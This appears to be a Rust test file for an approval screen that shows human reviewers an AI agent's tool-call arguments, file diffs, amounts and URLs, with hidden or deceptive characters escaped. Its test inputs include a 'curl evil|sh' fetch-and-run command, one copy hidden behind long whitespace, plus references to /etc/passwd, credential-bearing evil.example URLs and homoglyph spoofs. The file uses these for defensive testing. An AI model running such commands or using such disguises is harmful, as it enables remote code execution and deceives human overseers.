//! What people are shown: all of it that fits, nothing that hides, and a word about the rest.

#![allow(clippy::unwrap_used, clippy::panic, reason = "helpers of tests fail by panicking")]

mod common;

use common::*;
use talos_approval::render::{self, LEAF_LINES, MAX_ARGUMENTS, MAX_FOUND, Shown};
use talos_contracts::json::{self, Profile, Value};
use talos_contracts::*;

fn parsed(text: &str) -> Value {
    json::parse(text.as_bytes(), Profile::Data).unwrap()
}

fn shown<'a>(args: &'a Value, files: &'a [ApprovalFile]) -> ApprovalView {
    let (kind, effect) = (ActionKind::ToolCall, Some(Effect::Write));
    render::action(&Shown { kind, target: "tool", effect, amount: None, tokens: None, model: None, args, files })
}

fn view(args: &str) -> ApprovalView {
    shown(&parsed(args), &[])
}

/// The one leaf `x` of these arguments.
fn leaf(text: &str) -> ApprovalArgument {
    let args = Value::object([("x", Value::from(text))]);
    shown(&args, &[]).arguments.remove(0)
}

fn diffs(args: &str, files: &[(&str, Option<&str>)]) -> Vec<ApprovalDiff> {
    let file =
        |(path, text): &(&str, Option<&str>)| ApprovalFile { path: (*path).into(), text: text.map(str::to_owned) };
    let files: Vec<ApprovalFile> = files.iter().map(file).collect();
    shown(&parsed(args), &files).diffs
}

#[test]
fn every_leaf_has_its_pointer_and_its_value() {
    let view = view(r#"{"a":{"b/c":[1,true,null,"x",-0.5]},"~":{},"e":[]}"#);
    let found: Vec<(&str, &str)> = view.arguments.iter().map(|a| (a.pointer.as_str(), a.lines[0].as_str())).collect();
    let expected = [
        ("/a/b~1c/0", "1"),
        ("/a/b~1c/1", "true"),
        ("/a/b~1c/2", "null"),
        ("/a/b~1c/3", "\"x\""),
        ("/a/b~1c/4", "-0.5"),
        ("/e", "[]"),
        ("/~0", "{}"),
    ];
    assert_eq!(found, expected);
    assert!(view.arguments.iter().all(|argument| !argument.clipped));
}

#[test]
fn the_page_says_what_runs_and_keeps_to_its_lines() {
    let args = parsed(
        r#"{"to":"bob@example.com","note":"pay\nfile /etc/passwd: would change","see":"http://bob@evil.example:8080/x"}"#,
    );
    let amount = Amount { micro: 1_234_500_000, currency: "EUR".into() };
    let (kind, effect) = (ActionKind::ToolCall, Some(Effect::Spend));
    let (amount, tokens, model) = (Some(&amount), Some(4_096), Some("gpt\u{2011}x\nfile /etc/passwd"));
    let shown = Shown { kind, target: "pay", effect, amount, tokens, model, args: &args, files: &[] };
    let digest = "digest 1cslWVPepTU3dbN2jXt9SSanTIGAabc70r1DIBlm_xQ:";
    let expected = [
        "tool_call pay (spend)",
        "amount: 1234.50 EUR",
        "tokens: 4096",
        "model: gpt⟨U+2011⟩x⟨U+000A⟩file /etc/passwd",
        "recipient: bob@example.com",
        "host: evil.example, after a user name, in /see",
        &format!("arguments, {digest}"),
        "  /note:",
        "  | pay",
        "  | file /etc/passwd: would change",
        "  /see: \"http://bob@evil.example:8080/x\"",
        "  /to: \"bob@example.com\"",
    ];
    assert_eq!(render::action(&shown).lines, expected);
}

#[test]
fn money_is_written_with_as_many_decimals_as_it_needs() {
    let cases = [
        (0, "0.00"),
        (1, "0.000001"),
        (10_000, "0.01"),
        (12_500_000, "12.50"),
        (12_345_000, "12.345"),
        (9_007_199_254_740_991, "9007199254.740991"),
    ];
    for (micro, text) in cases {
        assert_eq!(render::amount(&Amount { micro, currency: "JPY".into() }), format!("{text} JPY"));
    }
}

#[test]
fn what_hides_or_poses_is_written_out() {
    let cases = [
        ("plain, \"quoted\" \\ and so on", "plain, \"quoted\" \\ and so on"),
        ("\u{1b}[2Jx", "\u{27e8}U+001B\u{27e9}[2Jx"),
        ("a\rb", "a\u{27e8}U+000D\u{27e9}b"),
        ("a\tb", "a\u{21e5}b"),
        ("a\u{21e5}b", "a\u{27e8}U+21E5\u{27e9}b"),
        ("\u{27e8}U+0041\u{27e9}", "\u{27e8}U+27E8\u{27e9}U+0041\u{27e8}U+27E9\u{27e9}"),
        ("exe.\u{202e}gpj", "exe.\u{27e8}U+202E\u{27e9}gpj"),
        ("a\u{2066}b\u{2069}", "a\u{27e8}U+2066\u{27e9}b\u{27e8}U+2069\u{27e9}"),
        ("pay\u{200b}pal", "pay\u{27e8}U+200B\u{27e9}pal"),
        ("a\u{feff}\u{ad}\u{200d}b", "a\u{27e8}U+FEFF\u{27e9}\u{27e8}U+00AD\u{27e9}\u{27e8}U+200D\u{27e9}b"),
        ("a\u{a0}b\u{3000}c", "a\u{27e8}U+00A0\u{27e9}b\u{27e8}U+3000\u{27e9}c"),
        ("a\u{2028}b\u{85}c", "a\u{27e8}U+2028\u{27e9}b\u{27e8}U+0085\u{27e9}c"),
        ("tag\u{e0041}", "tag\u{27e8}U+E0041\u{27e9}"),
        ("x\u{fe0f}\u{3164}", "x\u{27e8}U+FE0F\u{27e9}\u{27e8}U+3164\u{27e9}"),
        ("=\u{338}", "=\u{27e8}U+0338\u{27e9}"),
        ("e\u{301}", "e\u{27e8}U+0301\u{27e9}"),
        ("p\u{430}ypal", "p\u{27e8}U+0430\u{27e9}ypal"),
        ("\u{3bf}k", "\u{27e8}U+03BF\u{27e9}k"),
        (
            "\u{ff41}dmin \u{1d41a} \u{fb01}",
            "\u{27e8}U+FF41\u{27e9}dmin \u{27e8}U+1D41A\u{27e9} \u{27e8}U+FB01\u{27e9}",
        ),
        ("r\u{e9}sum\u{e9} Stra\u{df}e", "r\u{e9}sum\u{e9} Stra\u{df}e"),
        ("\u{43f}\u{440}\u{438}\u{432}\u{435}\u{442} mir", "\u{43f}\u{440}\u{438}\u{432}\u{435}\u{442} mir"),
        ("\u{65e5}\u{672c} \u{2026} \u{1f600}", "\u{65e5}\u{672c} \u{2026} \u{1f600}"),
    ];
    for (text, expected) in cases {
        assert_eq!(leaf(text).lines, [format!("\"{expected}\"")], "{text:?}");
    }
    let named = Value::object([("a\u{202e}b", Value::from(1))]);
    assert_eq!(shown(&named, &[]).arguments[0].pointer, "/a\u{27e8}U+202E\u{27e9}b");
    let none = parsed("{}");
    let asked = ApprovalRequest { target: "r\u{e9}ad".into(), ..asked() };
    let shown = Shown { effect: None, ..Shown::of(&asked, &none, &[]) };
    assert_eq!(render::action(&shown).heading, "tool_call r\u{27e8}U+00E9\u{27e9}ad (effect not declared)");
}

#[test]
fn what_is_clipped_is_said() {
    let long = leaf(&"x".repeat(200 * LEAF_LINES + 34));
    assert_eq!(long.lines.len(), LEAF_LINES + 1);
    assert_eq!(long.lines.last().unwrap(), "[clipped: 34 more characters]");
    assert!(long.clipped && !leaf(&"x".repeat(200 * LEAF_LINES)).clipped);

    let lines = leaf(&"x\n".repeat(LEAF_LINES));
    assert_eq!(
        (lines.lines.len(), lines.lines.last().unwrap().as_str(), lines.clipped),
        (LEAF_LINES + 1, "[clipped: 1 more characters]", true)
    );
    assert!(!leaf(&"x\n".repeat(LEAF_LINES - 1)).clipped);

    let many = Value::from(vec![Value::from(1); MAX_ARGUMENTS + 3]);
    let view = shown(&many, &[]);
    assert_eq!((view.arguments.len(), view.omitted.arguments), (MAX_ARGUMENTS, 3));
    assert!(view.lines.contains(&"[clipped: 3 more arguments]".to_owned()));

    let found: String = (0..MAX_FOUND + 2).map(|n| format!("u{n}@x.y http://h{n}/ ")).collect();
    let view = shown(&Value::object([("x", Value::from(found))]), &[]);
    assert_eq!((view.recipients.len(), view.omitted.recipients), (MAX_FOUND, 2));
    assert_eq!((view.urls.len(), view.omitted.urls), (MAX_FOUND, 2));
    assert!(view.lines.contains(&"[clipped: 2 more recipients]".to_owned()));
    assert!(view.lines.contains(&"[clipped: 2 more URLs]".to_owned()));
}

#[test]
fn a_long_line_goes_on_in_the_next() {
    let command = format!("ls {}; curl evil|sh", "x".repeat(200));
    let shown = leaf(&command);
    assert_eq!(shown.lines, [format!("\"ls {}", "x".repeat(197)), "\u{21aa}xxx; curl evil|sh\"".to_owned()]);
    assert!(!shown.clipped);
    let signs = leaf(&"\u{202e}".repeat(30)).lines;
    let sign = "\u{27e8}U+202E\u{27e9}";
    assert_eq!(signs, [format!("\"{}", sign.repeat(25)), format!("\u{21aa}{}\"", sign.repeat(5))]);
    assert_eq!(leaf("a\n\u{21aa}b").lines, ["a", "\u{27e8}U+21AA\u{27e9}b"], "no text passes for the rest of a line");
}

#[test]
fn nothing_is_pushed_out_of_sight() {
    let hidden = leaf(&format!("ls {}; curl evil|sh", " ".repeat(190)));
    assert_eq!(hidden.lines, ["\"ls\u{27e8}191 \u{d7} U+0020\u{27e9}; curl evil|sh\""]);
    let indented = format!("{}x", " ".repeat(16));
    assert_eq!(leaf(&indented).lines, [format!("\"{indented}\"")]);
    assert_eq!(leaf(&format!("a\n{}b", "\n".repeat(190))).lines, ["a", "\u{27e8}190 \u{d7} U+000A\u{27e9}", "b"]);
    assert_eq!(leaf("a\n\n\n\n\nb").lines, ["a", "", "", "", "", "b"]);
}

#[test]
fn a_view_says_whether_it_is_whole_and_the_whole_can_be_seen() {
    let recipients: Vec<Value> = (0..MAX_FOUND + 1).map(|n| Value::from(format!("u{n}@x.example"))).collect();
    let files: Vec<Value> = (0..9).map(|n| parsed(&format!(r#"{{"path":"f{n}","content":""}}"#))).collect();
    let pieces: Vec<String> = (0..200).map(|n| format!(r#"{{"oldText":"a{n}","newText":"b{n}"}}"#)).collect();
    let cases = [
        (Value::object([("to", Value::from(recipients))]), format!("u{MAX_FOUND}@x.example")),
        (Value::object([("x", Value::from("y".repeat(300 * LEAF_LINES) + "end"))]), "end".to_owned()),
        (Value::from(vec![Value::from("leaf"); MAX_ARGUMENTS + 1]), format!("  /{MAX_ARGUMENTS}: ")),
        (Value::object([("n".repeat(300) + "end", Value::from(1))]), "end".to_owned()),
        (Value::object([("x", Value::from(format!("https://{}.end/", "h".repeat(300))))]), ".end, in /x".to_owned()),
        (Value::object([("x", Value::from(format!("{}@x.end", "p".repeat(300))))]), "recipient: ".to_owned()),
        (Value::from(files), "file f8: ".to_owned()),
        (parsed(&format!(r#"{{"path":"f","edits":[{}]}}"#, pieces.join(","))), "+b199".to_owned()),
    ];
    for (args, last) in cases {
        let page = shown(&args, &[]);
        assert!(page.clipped, "{last}");
        assert!(page.lines.last().unwrap().contains("approvals show --full"), "{last}");
        let asked = ApprovalRequest { args_digest: talos_audit::receipt::args_digest(&args), ..asked() };
        let whole = render::whole(&verified(&asked), &args, &[]).unwrap();
        assert!(whole.iter().any(|line| line.contains(&last)), "{last}: {whole:#?}");
        assert!(!whole.iter().any(|line| line.contains("[clipped")), "{whole:#?}");
    }
    let page = view(r#"{"x":"y"}"#);
    assert!(!page.clipped && !page.lines.iter().any(|line| line.contains("--full")));
}

#[test]
fn a_model_that_does_not_fit_is_missed() {
    let (args, model) = (json::parse(b"{}", Profile::Data).unwrap(), "\u{430}".repeat(26));
    let asked = ApprovalRequest {
        args_digest: talos_audit::receipt::args_digest(&args),
        model: Some(model.clone()),
        ..asked()
    };
    let request = verified(&asked);
    let page = render::request(&request, &args, &[]).unwrap();
    assert!(page.clipped && page.model.unwrap().ends_with(" [clipped: 1 more characters]"));
    let written = "\u{27e8}U+0430\u{27e9}".repeat(26);
    assert!(render::whole(&request, &args, &[]).unwrap().contains(&format!("model: {written}")));
}

#[test]
fn a_line_of_a_file_ends_with_a_line_feed_and_nothing_else() {
    let files = [("f", Some("a\rb\nc"))];
    let [diff] = diffs(r#"{"path":"f","content":"a\rx\nc"}"#, &files).try_into().unwrap();
    let (cr, none) = ("\u{27e8}U+000D\u{27e9}", "\\ no line feed at the end");
    assert_eq!(diff.lines, ["@@ -1,2 +1,2 @@", &format!("-a{cr}b"), &format!("+a{cr}x"), " c", none]);
    // Comparing takes the square of the lines, which are counted as they are compared.
    let returns = "\r".repeat(100_000);
    let args = Value::object([("path", Value::from("f")), ("content", Value::from(returns + "x"))]);
    let files = [ApprovalFile { path: "f".into(), text: Some("\r\r\r".into()) }];
    assert_eq!(shown(&args, &files).diffs[0].status, ApprovalDiffStatus::Changed);
}

#[test]
fn the_host_is_the_one_that_a_browser_would_ask() {
    let cases = [
        ("https://good.example/", "good.example", false),
        ("https://good.example@evil.example/", "evil.example", true),
        ("https://good.example:80@evil.example:81", "evil.example", true),
        ("https://evil.example\\@good.example/", "evil.example", false),
        ("https://evil.example?@good.example/", "evil.example", false),
        ("https://evil.example#@good.example/", "evil.example", false),
        ("http://[::1]:80/x", "[::1]", false),
        ("http://2130706433/", "2130706433", false),
        ("http://b\u{fc}cher.example/", "b\u{27e8}U+00FC\u{27e9}cher.example", false),
        ("http://p\u{430}ypal.com/", "p\u{27e8}U+0430\u{27e9}ypal.com", false),
        ("see git+ssh://host/x.", "host", false),
    ];
    for (text, host, credentials) in cases {
        let args = Value::object([("x", Value::from(text))]);
        let urls = shown(&args, &[]).urls;
        assert_eq!((urls[0].host.as_str(), urls[0].credentials), (host, credentials), "{text}");
        assert_eq!(urls.len(), 1, "{text}");
    }
    assert!(view(r#"{"x":":// nothing"}"#).urls.is_empty());
}

#[test]
fn addresses_are_found_in_lists_and_in_names() {
    let view = view(
        r#"{"to":["a@x.example, B <b@x.example>;c@x.example","mailto:d@x.example"],"cc":"a@x.example","no":"@x a@ a@b@c http://u@h/"}"#,
    );
    assert_eq!(view.recipients, ["a@x.example", "b@x.example", "c@x.example", "d@x.example"]);
}

#[test]
fn a_file_that_is_written_is_compared_with_what_it_holds() {
    let write = r#"{"path":"/f","content":"one\ntwo\u202e\nthree\n"}"#;
    let created = &diffs(write, &[("/f", None)])[0];
    assert_eq!((created.path.as_str(), created.status), ("/f", ApprovalDiffStatus::Created));
    assert_eq!(created.lines, ["@@ -0,0 +1,3 @@", "+one", "+two\u{27e8}U+202E\u{27e9}", "+three"]);
    let changed = &diffs(write, &[("/f", Some("one\n2\nthree"))])[0];
    assert_eq!(changed.status, ApprovalDiffStatus::Changed);
    let lines = [
        "@@ -1,3 +1,3 @@",
        " one",
        "-2",
        "-three",
        "\\ no line feed at the end",
        "+two\u{27e8}U+202E\u{27e9}",
        "+three",
    ];
    assert_eq!(changed.lines, lines);
    assert_eq!(diffs(write, &[("/f", Some("one\ntwo\u{202e}\nthree\n"))])[0].status, ApprovalDiffStatus::Unchanged);
    assert_eq!(diffs(write, &[("/g", None)])[0].status, ApprovalDiffStatus::Unknown);
    assert_eq!(diffs(r#"{"path":"/f","mode":"x"}"#, &[("/f", None)]), []);
    assert_eq!(render::paths(&parsed(write)), ["/f"]);
    let several = r#"{"files":[{"path":"a","content":""},{"path":"b","contents":""},{"path":"a","text":"x"}]}"#;
    assert_eq!(render::paths(&parsed(several)), ["a", "b"]);
    assert_eq!(diffs(several, &[]).len(), 3);
}

#[test]
fn an_edit_is_made_on_what_the_file_holds() {
    let edit = r#"{"file_path":"f","old_string":"b","new_string":"c"}"#;
    let known = &diffs(edit, &[("f", Some("a\nb\nb\n"))])[0];
    assert_eq!(known.status, ApprovalDiffStatus::Changed);
    assert_eq!(known.lines, ["@@ -1,3 +1,3 @@", " a", "-b", "+c", " b"]);
    for files in [vec![], vec![("f", None)], vec![("f", Some("a\n"))]] {
        let unknown = &diffs(edit, &files)[0];
        assert_eq!(unknown.status, ApprovalDiffStatus::Unknown, "{files:?}");
        assert!(unknown.lines.contains(&"-b".to_owned()) && unknown.lines.contains(&"+c".to_owned()));
    }
    let edits = r#"{"path":"f","edits":[{"oldText":"1","newText":"2"},{"oldText":"2","newText":"3"}]}"#;
    let twice = &diffs(edits, &[("f", Some("1\n"))])[0];
    assert_eq!(twice.lines, ["@@ -1 +1 @@", "-1", "+3"]);
}

#[test]
fn a_diff_is_bounded_and_says_so() {
    let long = "x\n".repeat(200);
    let args = |text: &str| {
        format!(r#"{{"path":"f","content":{}}}"#, String::from_utf8(json::canonical(&Value::from(text))).unwrap())
    };
    let clipped = &diffs(&args(&long), &[("f", None)])[0];
    assert!(clipped.clipped && clipped.lines.len() == 129);
    assert_eq!(clipped.lines[128], "[clipped: 73 more lines]");
    let huge = &diffs(&args(&"x\n".repeat(2001)), &[("f", None)])[0];
    assert_eq!((huge.status, huge.lines[0].as_str()), (ApprovalDiffStatus::Unknown, "[too large to compare]"));
    let many: Vec<Value> = (0..10).map(|n| parsed(&format!(r#"{{"path":"f{n}","content":""}}"#))).collect();
    let view = shown(&Value::from(many), &[]);
    assert_eq!((view.diffs.len(), view.omitted.diffs), (8, 2));
    assert!(view.lines.contains(&"[clipped: 2 more files]".to_owned()));
    let pieces: Vec<String> = (0..70).map(|n| format!(r#"{{"oldText":"a{n}","newText":"b{n}"}}"#)).collect();
    let edits = &diffs(&format!(r#"{{"path":"f","edits":[{}]}}"#, pieces.join(",")), &[("f", Some("a"))])[0];
    assert!(edits.clipped && edits.lines.iter().any(|line| line.starts_with("[clipped: ")));
}

#[test]
fn a_request_is_shown_with_its_own_arguments_or_not_at_all() {
    let args = parsed(r#"{"to":"bob"}"#);
    let asked = ApprovalRequest { args_digest: talos_audit::receipt::args_digest(&args), ..asked() };
    let request = verified(&asked);
    let view = render::request(&request, &args, &[]).unwrap();
    assert_eq!((view.args_digest, view.amount.as_deref()), (asked.args_digest, Some("12.50 EUR")));
    assert_eq!(view.heading, "tool_call payments.transfer (spend)");
    let other = render::request(&request, &parsed(r#"{"to":"eve"}"#), &[]);
    assert_eq!(other.unwrap_err().code, ErrorCode::ApprovalMismatch);
}
